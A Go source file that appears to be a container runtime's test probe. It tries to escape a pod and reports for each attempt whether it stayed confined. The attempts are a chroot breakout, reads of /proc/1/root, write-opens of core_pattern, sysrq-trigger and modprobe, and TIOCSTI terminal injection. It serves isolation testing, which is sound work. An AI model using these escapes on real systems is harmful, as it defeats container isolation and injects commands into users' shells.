package main

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"strings"

	"golang.org/x/sys/unix"
)

// The hostile probe (--try-escape): what a malicious app would try to reach
// the host from inside its pod. Every attempt prints one line
// "ESCAPE_<NAME>=CONFINED <why>" or "ESCAPE_<NAME>=ESCAPED <evidence>";
// the functional tests want CONFINED everywhere. Nothing it does changes
// the host even where an attempt succeeds: files are only opened, and the
// only writes go to the stage1 side of the pod (a marker the tests look for).

// stage1Evidence are paths that exist in the stage1 root (the pod's own
// root outside every app) and in no test image.
var stage1Evidence = []string{"/stage2", "/opt/stage2", "/rkt/stage2.sock", "/rkt/status"}

// EscapeMarker is what a successful escape writes into the stage1 root, so
// that the tests can see it from the host even if the report were lost.
const escapeMarker = "/rkt/escaped-by-app"

func report(name string, escaped bool, detail string) {
	verdict := "CONFINED"
	if escaped {
		verdict = "ESCAPED"
	}
	fmt.Printf("ESCAPE_%s=%s %s\n", name, verdict, detail)
}

func tryEscape() {
	// The chroot escape changes the process's root: run it in a child.
	out, err := exec.Command("/proc/self/exe", "--internal-chroot-escape").CombinedOutput()
	if err != nil && len(out) == 0 {
		report("CHROOT", false, "child: "+err.Error())
	}
	os.Stdout.Write(out)
	if ents, err := os.ReadDir("/proc/1/root"); err == nil {
		names := make([]string, 0, len(ents))
		for _, e := range ents {
			names = append(names, e.Name())
		}
		report("PROC1_ROOT", true, strings.Join(names, ","))
	} else {
		report("PROC1_ROOT", false, errText(err))
	}
	for _, p := range []string{"/proc/1/exe", "/proc/1/cwd/stage2"} {
		name := "PROC1_" + strings.ToUpper(strings.ReplaceAll(strings.TrimPrefix(p, "/proc/1/"), "/", "_"))
		if f, err := os.OpenFile(p, os.O_RDONLY, 0); err == nil {
			f.Close()
			report(name, true, "opened "+p)
		} else {
			report(name, false, errText(err))
		}
	}
	// Opening for writing is enough to know; nothing is written.
	for _, p := range []string{"/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/kernel/modprobe"} {
		name := "WRITE_" + strings.ToUpper(strings.NewReplacer("/proc/", "", "/", "_", "-", "_").Replace(p))
		if f, err := os.OpenFile(p, os.O_WRONLY, 0); err == nil {
			f.Close()
			report(name, true, "opened "+p+" for writing")
		} else {
			report(name, false, errText(err))
		}
	}
	// TIOCSTI types into a terminal's input queue; on the caller's
	// controlling terminal that is a command for the caller's shell.
	tiocsti := func(name string, fd int) {
		for _, c := range []byte("echo TIOCSTI-INJECTED\n") {
			if err := unix.IoctlSetPointerInt(fd, unix.TIOCSTI, int(c)); err != nil {
				report("TIOCSTI_"+name, false, errText(err))
				return
			}
		}
		report("TIOCSTI_"+name, true, "injected into fd "+fmt.Sprint(fd))
	}
	for fd, name := range []string{"STDIN", "STDOUT", "STDERR"} {
		tiocsti(name, fd)
	}
	if fd, err := unix.Open("/dev/tty", unix.O_RDWR|unix.O_NOCTTY, 0); err == nil {
		tiocsti("DEVTTY", fd)
		unix.Close(fd)
	} else {
		report("TIOCSTI_DEVTTY", false, errText(err))
	}
	if fd, err := unix.Open("/dev/console", unix.O_RDWR|unix.O_NOCTTY, 0); err == nil {
		tiocsti("CONSOLE", fd)
		unix.Close(fd)
	} else {
		report("TIOCSTI_CONSOLE", false, errText(err))
	}
}

// chrootEscape is the classic escape for a process with CAP_SYS_CHROOT
// under a bare chroot(2): chroot into a subdirectory, climb out of it with
// "..", and make the real root its root again.
func chrootEscape() {
	dir, err := os.MkdirTemp("/tmp", "escape")
	if err != nil {
		dir, err = os.MkdirTemp("/", ".escape")
	}
	if err != nil {
		report("CHROOT", false, "no writable dir: "+errText(err))
		return
	}
	if err := unix.Chroot(dir); err != nil {
		report("CHROOT", false, "chroot: "+errText(err))
		return
	}
	for i := 0; i < 256; i++ {
		unix.Chdir("..")
	}
	if err := unix.Chroot("."); err != nil {
		report("CHROOT", false, "chroot .: "+errText(err))
		return
	}
	var found []string
	for _, p := range stage1Evidence {
		if _, err := os.Lstat(p); err == nil {
			found = append(found, p)
		}
	}
	if len(found) == 0 {
		report("CHROOT", false, "outside the subdirectory is only the app's own root")
		return
	}
	werr := os.WriteFile(escapeMarker, []byte("escaped\n"), 0o644)
	report("CHROOT", true, fmt.Sprintf("sees %s; marker write: %v", strings.Join(found, ","), werr))
}

func errText(err error) string {
	var errno unix.Errno
	if errors.As(err, &errno) {
		return unix.ErrnoName(errno)
	}
	return err.Error()
}
